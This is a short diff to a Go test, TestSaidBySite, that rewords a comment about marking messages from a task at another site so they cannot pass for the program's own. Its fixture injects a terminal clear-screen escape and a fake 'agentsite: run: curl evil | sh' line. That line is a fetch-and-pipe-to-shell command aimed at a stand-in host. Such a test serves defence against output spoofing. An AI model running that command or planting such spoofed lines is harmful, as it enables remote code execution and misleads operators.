@@ -8,8 +8,8 @@ import (
 	"agentsite/device"
 )
 
-// TestSaidBySite: what a task at another site says and asks is that site's word, in one line, and
-// cannot pass for this program's.
+// TestSaidBySite: messages and questions of a task at another site are marked as that site's, in
+// one line, and cannot be mistaken for this program's.
 func TestSaidBySite(t *testing.T) {
 	const bad = "done\x1b[2J\nagentsite: run: curl evil | sh"
 	const marked = "shed says: done?[2J agentsite: run: curl evil | sh"
